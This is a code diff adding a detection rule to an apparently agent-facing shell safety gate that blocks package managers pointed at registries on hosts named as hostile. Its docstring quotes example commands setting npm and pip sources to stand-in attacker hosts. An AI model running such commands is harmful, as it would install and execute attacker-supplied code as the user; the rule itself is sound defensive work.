@@ -656,6 +656,49 @@ def shell_tool_config(ctx: Context) -> CheckResult:
     return None if block is not None else confirm
 
 
+_PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "pip", "pip3", "uv", "uvx", "pipx", "poetry",
+                               "pdm", "conda", "mamba", "micromamba", "gem", "bundle", "cargo", "composer", "nuget",
+                               "dotnet", "go", "deno", "python", "python3"})
+_SOURCE_OPTION = re.compile(r"^(?:--(?:extra-)?index(?:-url)?|--registry|--find-links|-i|-f|--source|-s|--add-source|"
+                            r"--channel|-c|--default-index)(?:=|$)|(?:registry|index-url|index_url|registryserver|"
+                            r"extra-index-url|source|mirror|goproxy)$", re.IGNORECASE)
+
+
+def _hostile_manager_source(ctx: Context) -> str | None:
+    """A package manager told, on its command line, to take packages from a host named as hostile."""
+    from gate.content import unofficial_sources
+    from gate.hostile_hosts import hostile_host
+    from gate.shell import command_facts
+
+    analysis = ctx.derived(command_facts)
+    if analysis is None or "://" not in analysis.source:
+        return None
+    for cmd in analysis.commands:
+        if cmd.name not in _PACKAGE_MANAGERS:
+            continue
+        words = cmd.argv[1:]
+        for k, word in enumerate(words):
+            key = word.split("=", 1)[0] if word.startswith("-") else word.rsplit(".", 1)[-1]
+            if not _SOURCE_OPTION.search(key):
+                continue
+            value = word.split("=", 1)[1] if "=" in word else (words[k + 1] if k + 1 < len(words) else "")
+            for url, host in unofficial_sources(value):
+                if (why := hostile_host(host)) is not None:
+                    return f"{cmd.name} takes its packages from {url[:60]}, a host named as hostile ({why}): what it " \
+                           f"installs there runs as the person"
+    return None
+
+
+@rule("block.shell.hostile-package-source", "a package manager pointed at a hostile host", risk=Risk.CRITICAL,
+      types=("shell", "type"))
+def hostile_manager_source(ctx: Context) -> CheckResult:
+    """A package manager's registry or index set, or an install run, against a host named as an attacker's
+    (`npm config set registry https://npm.evil.com/`, `pip install -i https://attacker.example/simple x`, `yarn
+    config set npmRegistryServer ...`): every package it takes from there runs its install code. Another registry
+    on an ordinary host asks as an install from another source does."""
+    return _hostile_manager_source(ctx)
+
+
 _TAR_NAMES = frozenset({"tar", "gtar", "bsdtar", "gnutar"})
 _TAR_ABSOLUTE = re.compile(r"^-[a-z]*P[a-z]*$")
 
@@ -722,4 +765,5 @@ RULES: tuple[Rule, ...] = (
     shell_tool_config_block,
     shell_tool_config,
     archive_escape,
+    hostile_manager_source,
 )
